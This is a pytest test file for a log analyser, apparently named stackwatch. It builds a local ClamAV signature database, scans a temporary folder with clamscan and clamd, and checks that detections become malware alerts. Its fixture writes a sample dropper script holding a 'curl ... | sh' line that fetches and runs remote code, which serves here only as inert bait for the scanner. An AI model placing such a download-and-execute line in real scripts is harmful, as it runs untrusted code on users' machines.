"""ClamAV (Debian `clamav`, `clamav-daemon`) finds files matching a signature database made
here with `sigtool` (no network, no freshclam), and stackwatch reads what it wrote:
clamscan's output and --log file, clamd's own LogFile with and without LogTime, and clamd's
syslog messages carried by a real rsyslog into `serve`."""

from __future__ import annotations

import signal
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.producers.hosttools import (
    SyslogPath,
    analyze,
    host_logs,
    run,
    syslog_into_serve,
    with_dev_log,
)
from tests.servetools import wait_for

HASH_SIGNATURE = "Stackwatch.Test.Payload"
BODY_SIGNATURE = "Stackwatch.Test.Dropper"
MARK = b"stackwatch-clamav-test-mark"
# ClamAV names signatures of a database it did not sign '<name>.UNOFFICIAL'
FOUND = {"payload.bin": f"{HASH_SIGNATURE}.UNOFFICIAL", "dropper.sh": f"{BODY_SIGNATURE}.UNOFFICIAL"}


@pytest.fixture
def infected(tmp_path: Path) -> tuple[Path, Path]:
    """A folder with two matching files and a clean one, and the database that matches them:
    an MD5 signature (.hdb, from `sigtool --md5`) and a body signature (.ndb, from
    `sigtool --hex-dump`)."""
    scan, db = tmp_path / "scan", tmp_path / "db"
    scan.mkdir()
    db.mkdir()
    (scan / "payload.bin").write_bytes(b"\x7fELF not really, but a payload\n")
    (scan / "dropper.sh").write_bytes(b"#!/bin/sh\n# " + MARK + b"\ncurl http://203.0.113.9/x | sh\n")
    (scan / "clean.txt").write_text("nothing to see\n")
    md5 = run(["sigtool", "--md5", str(scan / "payload.bin")]).strip()
    digest, size, _ = md5.split(":", 2)
    (db / "test.hdb").write_text(f"{digest}:{size}:{HASH_SIGNATURE}\n")
    hexed = subprocess.run(["sigtool", "--hex-dump"], input=MARK, capture_output=True, check=True,
                           timeout=30).stdout.decode().strip()
    (db / "test.ndb").write_text(f"{BODY_SIGNATURE}:0:*:{hexed}\n")
    return scan, db


def _assert_found(alerts: list[dict], scan: Path) -> None:
    assert {(a["path"], a["summary"].split(": ", 1)[1].split(" in ")[0]) for a in alerts} == {
        (str(scan / name), signature) for name, signature in FOUND.items()}
    assert {a["category"] for a in alerts} == {"malware.detected"}
    assert all(a["severity"] == "critical" for a in alerts)


def test_clamscan_log_file(infected, tmp_path: Path) -> None:
    scan, db = infected
    log = tmp_path / "clamscan.log"
    run(["clamscan", "--database", str(db), "--recursive", f"--log={log}", str(scan)], ok=(1,))
    result = analyze(host_logs(tmp_path / "logs", "cmp1", {"clamscan.log": log.read_text()}), tmp_path / "d")
    _assert_found(result.alerts, scan)
    assert result.unparsed == 0


def test_clamscan_output(infected, tmp_path: Path) -> None:
    scan, db = infected
    output = run(["clamscan", "--database", str(db), "--recursive", str(scan)], ok=(1,))
    result = analyze(host_logs(tmp_path / "logs", "cmp1", {"clamscan.out": output}), tmp_path / "d")
    _assert_found(result.alerts, scan)
    assert result.unparsed == 0


def _clamd_config(folder: Path, db: Path, options: str) -> Path:
    config = folder / "clamd.conf"
    config.write_text(
        f"LocalSocket {folder / 'clamd.sock'}\nPidFile {folder / 'clamd.pid'}\nDatabaseDirectory {db}\n"
        f"TemporaryDirectory {folder}\nForeground yes\n{options}")
    return config


@contextmanager
def _clamd(config: Path, syslog: SyslogPath | None = None) -> Iterator[None]:
    """clamd running on its local socket (its /dev/log leading to ``syslog``, if given);
    stopped, and its log closed, on leaving."""
    argv = ["clamd", "--config-file", str(config)]
    if syslog is not None:
        argv = with_dev_log(syslog.socket, syslog.scratch, argv)
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    socket = config.parent / "clamd.sock"
    try:
        wait_for(lambda: socket.exists() or proc.poll() is not None, 60, 0.1)
        assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
        yield
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)


def _clamdscan(config: Path, scan: Path) -> None:
    run(["clamdscan", "--config-file", str(config), "--fdpass", str(scan)], ok=(1,))
    run(["clamdscan", "--config-file", str(config), "--stream", str(scan / "payload.bin")], ok=(1,))


@pytest.mark.parametrize("log_time", ["yes", "no"])
def test_clamd_log_file(infected, tmp_path: Path, log_time: str) -> None:
    scan, db = infected
    log = tmp_path / "clamd.log"
    config = _clamd_config(tmp_path, db, f"LogFile {log}\nLogTime {log_time}\n")
    with _clamd(config):
        _clamdscan(config, scan)
    text = log.read_text()
    result = analyze(host_logs(tmp_path / "logs", "cmp1", {"clamd.log": text}), tmp_path / "d")
    files = [a for a in result.alerts if a["path"].startswith("/")]
    _assert_found(files, scan)
    # the stream clamdscan sent is named by clamd, not by a path
    streamed = [a for a in result.alerts if not a["path"].startswith("/")]
    assert [a["path"] for a in streamed] == ["instream(local)"]
    if log_time == "yes":
        assert result.unparsed == 0
    else:  # without LogTime clamd's housekeeping lines carry nothing to tell their format by
        assert result.unparsed == sum(1 for line in text.splitlines()
                                      if line and not line.endswith(" FOUND") and " at " not in line)


def test_clamd_syslog_through_rsyslog_into_serve(infected, tmp_path: Path) -> None:
    scan, db = infected
    config = _clamd_config(tmp_path, db, "LogSyslog yes\nLogFacility LOG_LOCAL6\n")
    with syslog_into_serve(tmp_path / "serve") as (syslog, alerts), _clamd(config, syslog):
        _clamdscan(config, scan)
    files = [a for a in alerts if a.path and a.path.startswith("/")]
    assert {(a.path, a.summary.split(": ", 1)[1].split(" in ")[0]) for a in files} == {
        (str(scan / name), signature) for name, signature in FOUND.items()}
    assert {a.category for a in alerts} == {"malware.detected"}
